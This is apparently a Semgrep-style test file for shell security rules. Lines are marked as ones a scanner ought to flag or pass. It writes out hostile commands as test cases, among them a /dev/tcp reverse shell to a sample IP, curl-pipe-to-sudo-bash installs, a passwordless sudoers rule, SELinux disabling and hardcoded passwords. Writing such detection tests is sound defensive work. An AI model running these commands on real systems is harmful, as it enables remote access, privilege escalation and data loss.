#!/bin/bash
# ruleid: sh-eval-argument
eval "$1"
# ruleid: sh-eval-argument
bash -c "run $2"
# ok: sh-eval-argument, sh-eval-variable
eval "$(ssh-agent -s)"
# ok: sh-eval-argument
bash -c 'echo "$1"' bash "$1"
# ruleid: sh-eval-variable
eval "$command"
# ok: sh-eval-variable
"${command[@]}"
# ruleid: sh-piped-shell
curl -fsSL https://get.example.com/install | sudo bash
# ruleid: sh-piped-shell
bash <(curl -s https://get.example.com/install)
# ok: sh-piped-shell
echo "Run: curl https://get.example.com/install | bash"
# ok: sh-piped-shell
curl -fsSL https://get.example.com/data | jq .
# ruleid: sh-remove-variable
rm -rf $BUILD
# ruleid: sh-remove-variable
rm -rf "$BUILD"/*
# ok: sh-remove-variable
rm -rf "$BUILD"
# ok: sh-remove-variable
rm -rf "${BUILD:?}"/*
# ruleid: sh-world-writable
chmod -R 777 /srv
# ok: sh-world-writable
chmod 750 /srv
# ok: sh-world-writable
chmod 1777 /srv/tmp
# ruleid: sh-setuid
chmod 4755 /usr/local/bin/tool
# ok: sh-setuid
chmod 0755 /usr/local/bin/tool
# ok: sh-setuid
chmod u+x /usr/local/bin/tool
# ruleid: sh-temp-file
date > /tmp/state
# ruleid: sh-temp-file
work=/tmp/work.$$
# ok: sh-temp-file
work=$(mktemp)
# ok: sh-temp-file
date > "$work"
# ruleid: sh-tls-verify-off
curl -sk https://example.com/a
# ruleid: sh-tls-verify-off
git -c http.sslVerify=false fetch
# ok: sh-tls-verify-off
curl -sS https://example.com/k
# ok: sh-tls-verify-off
curl -k https://localhost:8443/health
# ruleid: sh-host-key-off
ssh -o StrictHostKeyChecking=no example.com
# ok: sh-host-key-off
ssh -o StrictHostKeyChecking=accept-new example.com
# ok: sh-host-key-off
ssh example.com
# ruleid: sh-secret
export DB_PASSWORD="Tr0ub4dor-and-3"
# ok: sh-secret
export DB_PASSWORD="$1"
# ok: sh-secret
API_TOKEN=$(cat /run/token)
# ok: sh-secret
API_TOKEN="your-token-2024"
# ruleid: sh-secret-argument
sshpass -p Tr0ub4dor ssh example.com
# ruleid: sh-secret-argument
curl -u robot:Tr0ub4dor https://example.com/
# ok: sh-secret-argument
curl -u "robot:$PASSWORD" https://example.com/
# ok: sh-secret-argument
mysql -P 3306 -p web
# ruleid: sh-sudo-rule
echo "web ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/web
# ok: sh-sudo-rule
echo "web ALL=(ALL) NOPASSWD: /usr/bin/reload" > /etc/sudoers.d/web
# ok: sh-sudo-rule
echo "web ALL=(ALL) ALL" > /etc/sudoers.d/web
# ruleid: sh-remote-words
ssh example.com "restart $1"
# ok: sh-remote-words
ssh example.com restart
# ok: sh-remote-words
ssh "$host" 'restart "$1"'
# ruleid: sh-find-shell
find . -name '*.a' -exec sh -c 'wc {}' \;
# ok: sh-find-shell
find . -name '*.a' -exec sh -c 'wc "$1"' sh {} \;
# ok: sh-find-shell
find . -name '*.a' -exec wc {} \;
# ruleid: sh-search-path
export PATH=.:$PATH
# ok: sh-search-path
export PATH=/opt/bin:$PATH
# ok: sh-search-path
PATH="$HOME/.local/bin:$PATH"
# ruleid: sh-word-separator
export IFS=,
# ok: sh-word-separator
IFS=, read -r a b
# ok: sh-word-separator
IFS=$'\n\t'
# ruleid: sh-weak-cipher
openssl enc -des3 -in a -out b
# ruleid: sh-weak-cipher
openssl genrsa -out key 1024
# ok: sh-weak-cipher
openssl enc -aes-256-cbc -pbkdf2 -in a -out b
# ok: sh-weak-cipher
openssl genrsa -out key 4096
# ruleid: sh-weak-checksum
md5sum -c sums
# ok: sh-weak-checksum
sha256sum -c sums
# ok: sh-weak-checksum
md5sum a | cut -c1-8
# ruleid: sh-weak-random
token="$RANDOM$RANDOM"
# ok: sh-weak-random
token=$(openssl rand -hex 16)
# ok: sh-weak-random
port=$((RANDOM % 1000))
# ruleid: sh-unsigned-packages
apt-get install -y --allow-unauthenticated git
# ok: sh-unsigned-packages
apt-get install -y git
# ok: sh-unsigned-packages
dnf install -y git
# ruleid: sh-plain-download
curl -o a http://example.com/a
# ok: sh-plain-download
curl -o a https://example.com/a
# ok: sh-plain-download
curl http://localhost:8080/health
# ruleid: sh-reverse-shell
bash -i >& /dev/tcp/192.0.2.1/4444 0>&1
# ok: sh-reverse-shell
(echo > /dev/tcp/localhost/5432) 2> /dev/null
# ok: sh-reverse-shell
nc -z localhost 5432
# ruleid: sh-guard-off
setenforce 0
# ok: sh-guard-off
setenforce 1
# ok: sh-guard-off
echo "never run: ufw disable"

# ruleid: sh-secret
export STORE_PASSWORD="Zq81mLpWxV2"  # for the nightly run
# ok: sh-secret
export STORE_PASSWORD="$(cat /run/secrets/store)"  # for the nightly run
